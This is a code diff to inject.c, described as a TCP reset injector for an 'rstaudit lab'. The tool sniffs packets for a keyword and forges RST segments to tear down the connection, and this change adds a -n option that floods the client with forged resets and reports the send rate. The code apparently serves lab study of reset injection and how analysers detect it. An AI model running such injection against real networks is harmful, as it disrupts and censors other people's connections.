@@ -1,7 +1,8 @@
 /*
  * inject.c: an on-path TCP reset injector for the rstaudit lab.
  *
- *	inject -i IFACE -k KEYWORD [-c] [-p PORT] [-d DELAY_MS] [-t SECONDS]
+ *	inject -i IFACE -k KEYWORD [-c] [-n COUNT] [-p PORT] [-d DELAY_MS]
+ *	    [-t SECONDS]
  *
  * Sniffs the packets arriving on IFACE with an AF_PACKET socket (it never
  * sits in the forwarding path: the routers keep forwarding everything).
@@ -11,7 +12,9 @@
  *  - to the sender (the client), claiming to be the receiver: a burst of
  *    three RST|ACK at seq = the trigger's ack, +1460, +4380, TTL/hop limit
  *    64, IPv4 ID copied from the trigger, DF clear, window copied from the
- *    trigger, no options;
+ *    trigger, no options; with -n COUNT, a flood of COUNT of them, as fast
+ *    as the raw socket takes them, the seqs cycling through those three
+ *    (a third of them would take effect);
  *  - to the receiver (the server), claiming to be the client, DELAY_MS
  *    later (default 300), so the server's genuine reply can still reach
  *    the client after the forged RST: the race an analyser can see.
@@ -50,6 +53,7 @@
 #define FORGED_TTL	64
 
 static const uint32_t burst_offset[BURST] = { 0, 1460, 4380 };
+static long burst_count = BURST;	/* -n */
 
 /* One TCP segment's identity, as seen on the wire (host byte order). */
 struct seg {
@@ -283,7 +287,8 @@ inject(const struct seg *t, double delay)
 {
 	struct seg c = *t, sv = *t;
 	char name[128];
-	int i;
+	double t0;
+	long i;
 
 	/* To the client, from the server. */
 	memcpy(c.src, t->dst, 16);
@@ -291,13 +296,16 @@ inject(const struct seg *t, double delay)
 	c.sport = t->dport;
 	c.dport = t->sport;
 	c.ack = t->seq + (uint32_t)t->paylen;
-	for (i = 0; i < BURST; i++) {
-		c.seq = t->ack + burst_offset[i];
+	t0 = now();
+	for (i = 0; i < burst_count; i++) {
+		c.seq = t->ack + burst_offset[i % BURST];
 		rst_send(&c);
 	}
-	fprintf(stderr, "inject: trigger %s seq %u ack %u: %d RSTs to the "
-	    "client at seq %u +1460 +4380\n", seg_name(t, name, sizeof(name)),
-	    t->seq, t->ack, BURST, t->ack);
+	t0 = now() - t0;
+	fprintf(stderr, "inject: trigger %s seq %u ack %u: %ld RSTs to the "
+	    "client at seq %u +1460 +4380 in %.3f ms (%.0f/s)\n",
+	    seg_name(t, name, sizeof(name)), t->seq, t->ack, burst_count,
+	    t->ack, t0 * 1e3, t0 > 0 ? burst_count / t0 : 0.0);
 
 	if (client_only)
 		return;
@@ -368,8 +376,8 @@ sniff_open(const char *ifname)
 static void
 usage(void)
 {
-	fprintf(stderr, "usage: inject -i IFACE -k KEYWORD [-c] [-p PORT] "
-	    "[-d DELAY_MS] [-t SECONDS]\n");
+	fprintf(stderr, "usage: inject -i IFACE -k KEYWORD [-c] [-n COUNT] "
+	    "[-p PORT] [-d DELAY_MS] [-t SECONDS]\n");
 	exit(2);
 }
 
@@ -384,9 +392,10 @@ main(int argc, char *argv[])
 	double delay = 0.3, deadline, seconds = 120;
 	int fd, ch;
 
-	while ((ch = getopt(argc, argv, "ci:k:p:d:t:")) != -1) {
+	while ((ch = getopt(argc, argv, "ci:k:n:p:d:t:")) != -1) {
 		switch (ch) {
 		case 'c': client_only = 1; break;
+		case 'n': burst_count = strtol(optarg, NULL, 10); break;
 		case 'i': ifname = optarg; break;
 		case 'k': keyword = optarg; break;
 		case 'p': port = strtol(optarg, NULL, 10); break;
